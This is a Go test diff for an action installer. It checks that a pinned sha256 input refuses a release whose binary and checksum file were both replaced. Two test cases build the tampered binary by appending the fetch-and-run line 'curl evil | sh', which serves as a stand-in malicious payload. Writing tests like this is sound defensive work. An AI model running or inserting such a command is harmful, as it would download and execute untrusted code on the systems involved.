@@ -2,6 +2,8 @@ package actionrun_test
 
 import (
 	"context"
+	"crypto/sha256"
+	"fmt"
 	"os"
 	"path/filepath"
 	"runtime"
@@ -127,6 +129,51 @@ func TestInstallRefusesTamperedBinary(t *testing.T) {
 		assert.Equal(t, "skipped", s.Outcome, s.ID)
 	}
 	assert.Empty(t, res.Outputs, "a failed action sets no outputs")
+}
+
+// TestInstallPinnedChecksum: with the sha256 input the binary must match
+// the workflow's own pin: a release whose binary and SHA256SUMS were both
+// replaced (they agree with each other) is refused, which SHA256SUMS alone
+// cannot do; the pin is the release's SHA256SUMS lines or one sum.
+func TestInstallPinnedChecksum(t *testing.T) {
+	genuine := []byte(fakeBinary)
+	sum := fmt.Sprintf("%x", sha256.Sum256(genuine))
+	lines := sum + "  " + asset() + "\n" + strings.Repeat("0", 64) + "  outpost-darwin-arm64\n"
+	for _, c := range []struct {
+		name, pin string
+		binary    []byte
+		refused   string
+	}{
+		{"lines, genuine", lines, genuine, ""},
+		{"one sum, genuine", strings.ToUpper(sum), genuine, ""},
+		{"lines, replaced release", lines, []byte(fakeBinary + "curl evil | sh\n"), "the sha256 input pins " + sum},
+		{"one sum, replaced release", sum, []byte(fakeBinary + "curl evil | sh\n"), "the sha256 input pins " + sum},
+		{"no line for this runner", strings.Repeat("0", 64) + "  outpost-darwin-arm64\n", genuine, "the sha256 input lists no " + asset()},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			r := runner(t, map[string]string{"agent": "claude", "version": "v9.9.9", "sha256": c.pin})
+			// The release as served: its SHA256SUMS agrees with its binary.
+			dir, err := actionrun.Release(t.TempDir(), "v9.9.9", map[string][]byte{asset(): c.binary})
+			require.NoError(t, err)
+			srv := actionrun.FileServer(dir)
+			defer srv.Close()
+			r.With["release-url"] = srv.URL
+			res, err := load(t).Run(context.Background(), r)
+			require.NoError(t, err)
+			bin := filepath.Join(r.ToolCache, "outpost", "v9.9.9", runtime.GOARCH, "outpost")
+			if c.refused == "" {
+				require.Empty(t, res.Failed, "the install step failed")
+				assert.Contains(t, res.Step("install").Stdout, "matches SHA256SUMS and the sha256 input")
+				assert.FileExists(t, bin)
+				return
+			}
+			assert.Equal(t, "install", res.Failed)
+			ann := res.Annotations()
+			require.Len(t, ann, 1)
+			assert.Contains(t, ann[0].Message, c.refused)
+			assert.NoFileExists(t, bin)
+		})
+	}
 }
 
 // TestInstallVersionFromRef: without the version input the action
